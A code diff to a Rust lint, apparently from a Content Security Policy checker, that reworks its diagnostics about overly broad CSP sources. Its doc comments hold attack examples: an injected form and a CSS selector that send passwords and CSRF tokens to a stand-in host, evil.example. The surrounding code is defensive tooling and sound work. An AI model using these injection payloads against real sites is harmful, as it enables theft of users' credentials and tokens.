@@ -1,5 +1,6 @@
 use super::csp_missing_base_uri::trusts_elements;
 use super::csp_script_broad_source::{NETWORK, broad_scripts};
+use crate::csp::attack::{BASE_SCRIPT, BEACON, EVIL, FORM, OBJECT, STYLESHEET, Template};
 use crate::csp::{Clause, Csp, Directive, SourceExpression};
 use crate::diagnostic::{Diagnostic, Level};
 use crate::lint::report::{Report, lint};
@@ -25,13 +26,13 @@ lint! {
     ///
     /// # Attack
     ///
-    /// An injected form sends the password that the browser fills in:
+    /// An injected form, with fields that the browser fills in, sends the password:
     ///
     /// ```html
-    /// <form action="https://evil.example/"><input name="user"><input type="password" name="password"><button>Continue</button></form>
+    /// <form action="https://evil.example/"><button name="data">x</button></form>
     /// ```
     ///
-    /// A stylesheet from anywhere reads a token, one character at a time:
+    /// A stylesheet from anywhere, `<link rel="stylesheet" href="https://evil.example/">`, reads a token, one character at a time:
     ///
     /// ```css
     /// input[name="csrf"][value^="a"] { background: url("https://evil.example/?a") }
@@ -93,19 +94,19 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
             _ => Level::Warn,
         };
         let (dsl, key) = (source.node.dsl(), by.key());
-        let (what, note) = match is_broad {
+        let effect = match is_broad {
             true if directive == Directive::ConnectSrc && !source.node.lets_anyone_in() => CONNECT_TO_SERVICE,
             true => effect(directive),
             false => BASE_BELOW,
         };
         report.push_at(
             level,
-            Diagnostic::finding(source.span, format!("`{dsl}` in `{key}` lets {what}"))
+            Diagnostic::finding(source.span, format!("`{dsl}` in `{key}` lets {}", effect.lets))
                 .help(match directive {
                     Directive::ObjectSrc | Directive::BaseUri => format!("write `{}: none`", directive.key()),
                     _ => format!("name the hosts: `{}: [self, \"https://cdn.example.com\"]`", directive.key()),
                 })
-                .note(note),
+                .note(effect.note(&source.node)),
         );
     }
 }
@@ -168,38 +169,74 @@ fn reported_for_scripts(csp: &Csp) -> BTreeSet<Span> {
 }
 
 /// What a broad source in this directive lets happen, and what an attacker does with it.
-fn effect(directive: Directive) -> (&'static str, &'static str) {
+fn effect(directive: Directive) -> Effect {
     match directive {
         Directive::ObjectSrc => {
-            ("anyone supply what `object` elements embed", "an injected `<object>` embeds a document of the attacker")
+            Effect::new("anyone supply what `object` elements embed", OBJECT, "embeds a document of the attacker")
         }
-        Directive::BaseUri => (
+        Directive::BaseUri => Effect::new(
             "a `base` element point anywhere",
-            "an injected `<base>` makes relative URLs load from the attacker's host, including those of scripts with a nonce",
+            BASE_SCRIPT,
+            "makes relative URLs load from the attacker's host, including those of scripts with a nonce",
         ),
         Directive::FormAction => {
-            ("forms be sent anywhere", "an injected form sends what the user types to another site")
+            Effect::new("forms be sent anywhere", FORM, "sends what the user types to another site")
         }
-        Directive::ConnectSrc => {
-            ("scripts connect to every host", "an injected script can send what it reads to the attacker's host")
-        }
-        _ => (
+        Directive::ConnectSrc => Effect::new(
+            "scripts connect to every host",
+            BEACON,
+            "in a script sends what it reads to the attacker's host",
+        ),
+        _ => Effect::new(
             "anyone supply styles",
-            "injected CSS can read form fields and tokens off the page and send them elsewhere",
+            STYLESHEET,
+            "applies: CSS can read form fields and tokens off the page and send them elsewhere",
         ),
     }
 }
 
+/// What a source lets happen, and what an attacker does with it.
+#[derive(Clone, Copy)]
+struct Effect {
+    lets: &'static str,
+    attack: Template,
+    outcome: &'static str,
+}
+
+impl Effect {
+    const fn new(lets: &'static str, attack: Template, outcome: &'static str) -> Self {
+        Effect { lets, attack, outcome }
+    }
+
+    fn note(self, source: &SourceExpression) -> String {
+        format!("an injected `{}` {}", self.attack.with(&url(source)), self.outcome)
+    }
+}
+
+/// A URL of the attacker that a source matches.
+fn url(source: &SourceExpression) -> String {
+    match source {
+        SourceExpression::Host(host) => match host.host.strip_prefix("*.") {
+            Some(name) => format!("https://evil.{name}/"),
+            None => EVIL.to_owned(),
+        },
+        SourceExpression::Scheme(scheme) if !names_hosts(source) => format!("{scheme}:text/css,*{{color:red}}"),
+        _ => EVIL.to_owned(),
+    }
+}
+
 /// What `*.example.com` in `base_uri` lets happen in a policy with a nonce.
-const BASE_BELOW: (&str, &str) = (
+const BASE_BELOW: Effect = Effect::new(
     "a `base` element point at every subdomain",
-    "an injected `<base>` makes a script with a nonce load from any of them, including one with uploads",
+    BASE_SCRIPT,
+    "makes a script with a nonce load from any of them, including one with uploads",
 );
 
 /// What `*.github.io` in `connect_src` lets happen.
-const CONNECT_TO_SERVICE: (&str, &str) = (
+const CONNECT_TO_SERVICE: Effect = Effect::new(
     "scripts connect to hosts that anyone can register",
-    "an injected script can send what it reads to a host of the attacker",
+    BEACON,
+    "in a script sends what it reads to a host of the attacker",
 );
 
 /// The directives that a source for everyone defeats.
